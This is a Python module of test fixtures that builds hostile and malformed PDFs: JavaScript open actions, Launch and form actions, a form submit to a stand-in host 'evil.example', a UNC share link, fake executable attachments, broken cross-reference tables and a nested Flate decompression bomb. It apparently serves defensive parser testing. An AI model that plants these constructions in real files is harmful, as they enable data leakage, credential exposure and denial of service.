"""Generators of hostile and awkward PDFs, built here (never downloaded).

Each function returns the file's bytes. `clean_pdf` makes an ordinary file
with one line of text per page; the hostile ones add a single trick to it.
"""

import re
import struct
import zlib
from io import BytesIO

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

MB = 1024 * 1024
A4 = (595, 842)


def name(value: str) -> NameObject:
    return NameObject(value)


def pdf_dict(**entries) -> DictionaryObject:
    """DictionaryObject from keyword arguments: pdf_dict(S="/JavaScript") -> << /S /JavaScript >>."""
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def js_action(script: str = "app.alert('pwned')") -> DictionaryObject:
    return pdf_dict(Type=name("/Action"), S=name("/JavaScript"), JS=TextStringObject(script))


def stream(writer: PdfWriter, data: bytes, **entries):
    obj = DecodedStreamObject()
    obj.set_data(data)
    obj.update(pdf_dict(**entries))
    return writer._add_object(obj)


def text_page(writer: PdfWriter, text: str):
    """A page showing `text` in Helvetica (ASCII only; enough for extraction tests)."""
    page = writer.add_blank_page(*A4)
    font = writer._add_object(pdf_dict(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica")))
    page[name("/Resources")] = pdf_dict(Font=pdf_dict(F1=font))
    page[name("/Contents")] = stream(writer, f"BT /F1 14 Tf 72 760 Td ({text}) Tj ET".encode())
    return page


def clean_writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for number in range(1, pages + 1):
        text_page(writer, f"Clean page {number} of {pages}")
    return writer


def to_bytes(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def clean_pdf(pages: int = 1) -> bytes:
    return to_bytes(clean_writer(pages))


def annotate(writer: PdfWriter, page_number: int, annotation: DictionaryObject) -> None:
    page = writer.pages[page_number]
    annotation.update(pdf_dict(Type=name("/Annot"), Rect=ArrayObject(map(NumberObject, (72, 700, 300, 730)))))
    page.setdefault(name("/Annots"), ArrayObject()).append(writer._add_object(annotation))


# Active content


def js_in_catalog() -> bytes:
    """JavaScript run on open: catalog /OpenAction, catalog /AA and the /Names /JavaScript tree."""
    writer = clean_writer()
    root = writer.root_object
    root[name("/OpenAction")] = writer._add_object(js_action())
    root[name("/AA")] = pdf_dict(WC=js_action("app.alert('closing')"))
    scripts = pdf_dict(Names=ArrayObject([TextStringObject("boot"), writer._add_object(js_action())]))
    root[name("/Names")] = pdf_dict(JavaScript=writer._add_object(scripts))
    return to_bytes(writer)


def js_in_page_aa() -> bytes:
    writer = clean_writer()
    writer.pages[0][name("/AA")] = pdf_dict(O=js_action(), C=js_action("app.alert('bye')"))
    return to_bytes(writer)


def link_actions() -> bytes:
    """Page 1: a JavaScript link, a Launch link and a harmless internal link to page 2."""
    writer = clean_writer(pages=2)
    annotate(writer, 0, pdf_dict(Subtype=name("/Link"), A=js_action()))
    launch = pdf_dict(S=name("/Launch"), F=TextStringObject("C:\\Windows\\System32\\calc.exe"))
    annotate(writer, 0, pdf_dict(Subtype=name("/Link"), A=launch))
    goto = pdf_dict(S=name("/GoTo"), D=ArrayObject([writer.pages[1].indirect_reference, name("/Fit")]),
                    Next=js_action("app.alert('chained')"))
    annotate(writer, 0, pdf_dict(Subtype=name("/Link"), A=goto))
    return to_bytes(writer)


def form_actions() -> bytes:
    """Widget annotations with SubmitForm, ResetForm, ImportData, GoToR, URI javascript: and Rendition."""
    writer = clean_writer()
    actions = [
        pdf_dict(S=name("/SubmitForm"), F=TextStringObject("https://evil.example/collect")),
        pdf_dict(S=name("/ResetForm")),
        pdf_dict(S=name("/ImportData"), F=TextStringObject("data.fdf")),
        pdf_dict(S=name("/GoToR"), F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
                 D=ArrayObject([NumberObject(0)])),
        pdf_dict(S=name("/URI"), URI=TextStringObject("javascript:alert(1)")),
        pdf_dict(S=name("/Rendition"), JS=TextStringObject("app.alert(1)")),
    ]
    for action in actions:
        annotate(writer, 0, pdf_dict(Subtype=name("/Widget"), FT=name("/Btn"), A=action))
    return to_bytes(writer)


def outline_with_javascript() -> bytes:
    writer = clean_writer()
    item = writer.add_outline_item(title="Click me", page_number=0)
    item.get_object()[name("/A")] = js_action()
    return to_bytes(writer)


def embedded_files() -> bytes:
    """An attachment in the /EmbeddedFiles name tree and one in a FileAttachment annotation."""
    writer = clean_writer()
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    payload = stream(writer, b"MZ\x90\x00 another one", Type=name("/EmbeddedFile"))
    filespec = pdf_dict(Type=name("/Filespec"), F=TextStringObject("invoice.exe"), EF=pdf_dict(F=payload))
    annotate(writer, 0, pdf_dict(Subtype=name("/FileAttachment"), FS=writer._add_object(filespec)))
    return to_bytes(writer)


def xfa_form() -> bytes:
    """An AcroForm with an XFA packet and a text field whose keystroke script is JavaScript."""
    writer = clean_writer()
    xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    field = pdf_dict(
        Subtype=name("/Widget"), FT=name("/Tx"), T=TextStringObject("name"), V=TextStringObject("Ola"),
        AA=pdf_dict(K=js_action("event.rc = true")),
    )
    annotate(writer, 0, field)
    field_ref = writer.pages[0]["/Annots"][-1]
    writer.root_object[name("/AcroForm")] = writer._add_object(pdf_dict(
        Fields=ArrayObject([field_ref]),
        XFA=ArrayObject([TextStringObject("xdp"), stream(writer, xdp)]),
    ))
    return to_bytes(writer)


# Encryption


def encrypted(user_password: str, owner_password: str = "owner-secret") -> bytes:
    writer = clean_writer(pages=2)
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm="RC4-128")
    return to_bytes(writer)


def user_password_pdf() -> bytes:
    return encrypted(user_password="user-secret")


def owner_password_only_pdf() -> bytes:
    return encrypted(user_password="")


# Damaged or not a PDF at all


def truncated_pdf() -> bytes:
    data = clean_pdf(pages=3)
    return data[: len(data) // 2]


def empty_file() -> bytes:
    return b""


def no_pages() -> bytes:
    return to_bytes(PdfWriter())


def text_file() -> bytes:
    return "Dette er et brev, ikke en PDF. Hilsen Åse.\n".encode()


def png_file() -> bytes:
    """A real 1x1 PNG, as someone would upload after renaming it to .pdf."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def png_behind_pdf_header() -> bytes:
    """Passes the magic-byte check, then is garbage to the parser."""
    return b"%PDF-1.7\n" + png_file() * 50


def shifted_xref() -> bytes:
    """Every in-use offset in the xref table points 7 bytes past its object (pypdf can repair this)."""
    data = clean_pdf(pages=2)
    start = data.rindex(b"\nxref\n")
    table = re.sub(rb"(\d{10}) (\d{5}) n", lambda m: b"%010d %s n" % (int(m[1]) + 7, m[2]), data[start:])
    return data[:start] + table


def broken_xref() -> bytes:
    """The xref table replaced by junk of the same length, the startxref pointer left as it was."""
    data = clean_pdf(pages=2)
    start = data.rindex(b"\nxref\n") + len(b"\nxref\n")
    end = data.index(b"trailer", start)
    junk = (b"garbled xref entry \n" * (end - start))[: end - start]
    return data[:start] + junk + data[end:]


# Resource exhaustion


def many_pages(count: int) -> bytes:
    """`count` pages that all share one content stream and one resources dict: small and quick to build."""
    writer = PdfWriter()
    first = text_page(writer, "Many pages")
    for _ in range(count - 1):
        page = writer.add_blank_page(*A4)
        page[name("/Resources")] = first["/Resources"]
        page[name("/Contents")] = first["/Contents"]
    return to_bytes(writer)


def deflated_zeros(megabytes: int) -> bytes:
    """A zlib stream inflating to `megabytes` MiB of zeros, built without compressing them all.

    After a full flush the compressor's state is reset, so every further MiB of
    zeros compresses to the same bytes; repeat that block, then end the stream
    with an empty final block and the Adler-32 of the zeros (a = 1, b = n mod 65521).
    """
    compressor = zlib.compressobj(9)
    zeros = bytes(MB)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler = ((megabytes * MB) % 65521) << 16 | 1
    return first + block * (megabytes - 1) + b"\x03\x00" + struct.pack(">I", adler)


def flate_bomb(megabytes: int = 1024, layers: int = 2) -> bytes:
    """A one-page PDF whose content stream inflates to `megabytes` MiB.

    Two Flate layers take 1 GiB down to ~2.5 KB (one layer: ~1 MB).
    """
    payload = deflated_zeros(megabytes)
    for _ in range(layers - 1):
        payload = zlib.compress(payload, 9)
    writer = PdfWriter()
    page = writer.add_blank_page(*A4)
    filters = ArrayObject([name("/FlateDecode")] * layers)
    page[name("/Contents")] = stream(writer, payload, Filter=filters)
    return to_bytes(writer)


def inflated_size_at_least(data: bytes, limit: int) -> bool:
    """Whether zlib `data` inflates to at least `limit` bytes, reading no further than that."""
    inflater = zlib.decompressobj()
    total = 0
    while total < limit and data:
        total += len(inflater.decompress(data, 16 * MB))
        data = inflater.unconsumed_tail
    return total >= limit
